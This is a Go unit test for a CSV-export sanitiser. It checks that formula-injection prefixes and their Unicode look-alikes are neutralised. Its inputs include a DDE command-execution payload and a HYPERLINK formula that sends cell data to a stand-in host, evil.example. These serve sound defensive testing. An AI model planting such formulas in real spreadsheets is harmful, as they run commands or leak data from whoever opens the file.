package db

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestSpreadsheetSafe runs the OWASP CSV-injection prefixes, and their
// fullwidth, small and hidden forms, through the one function every CSV
// cell of the portal goes through.
func TestSpreadsheetSafe(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"Equals", "=1+1", "'=1+1"},
		{"Plus", "+1+1", "'+1+1"},
		{"Minus", "-1+1", "'-1+1"},
		{"At", "@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"Tab", "\t=1+1", "'\t=1+1"},
		{"CarriageReturn", "\r=1+1", "'\r=1+1"},
		{"LineFeed", "\n=1+1", "'\n=1+1"},
		{"NUL", "\x00=1", "'\x00=1"},
		{"DDE", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"Hyperlink", `=HYPERLINK("https://evil.example?x="&A1,"Open")`, `'=HYPERLINK("https://evil.example?x="&A1,"Open")`},
		{"FullwidthEquals", "＝1+1", "'＝1+1"},
		{"FullwidthPlus", "＋1", "'＋1"},
		{"FullwidthMinus", "－1", "'－1"},
		{"FullwidthAt", "＠SUM(A1)", "'＠SUM(A1)"},
		{"SmallEquals", "﹦1+1", "'﹦1+1"},
		{"ZeroWidthSpace", "\u200b=1+1", "'\u200b=1+1"},
		{"ZeroWidthJoiner", "\u200d=1+1", "'\u200d=1+1"},
		{"ByteOrderMark", "\ufeff=1+1", "'\ufeff=1+1"},
		{"WordJoiner", "\u2060@x", "'\u2060@x"},
		{"BidiOverride", "\u202e=1+1", "'\u202e=1+1"},
		{"LeadingSpace", " =1+1", "' =1+1"},
		{"NoBreakSpace", "\u00a0=1+1", "'\u00a0=1+1"},
		{"IdeographicSpace", "\u3000=1+1", "'\u3000=1+1"},
		{"Name", "María García", "María García"},
		{"Hyphenated", "Jean-Luc", "Jean-Luc"},
		{"EqualsInside", "a=b", "a=b"},
		{"Number", "8901480070042170046", "8901480070042170046"},
		{"Time", "2026-12-01T08:30:00Z", "2026-12-01T08:30:00Z"},
		{"Empty", "", ""},
		{"OnlySpaces", "   ", "   "},
		{"AlreadyQuoted", "'=1+1", "'=1+1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := SpreadsheetSafe(tc.in); got != tc.want {
				t.Errorf("SpreadsheetSafe(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
	t.Run("EveryCellOfARecord", func(t *testing.T) {
		var b bytes.Buffer
		w := NewCSVWriter(&b)
		w.Write([]string{"=1", "ok", "＠x"})
		w.Flush()
		got, err := csv.NewReader(&b).Read()
		if err != nil || len(got) != 3 || got[0] != "'=1" || got[1] != "ok" || got[2] != "'＠x" {
			t.Errorf("record written as %q (%v)", got, err)
		}
	})
}
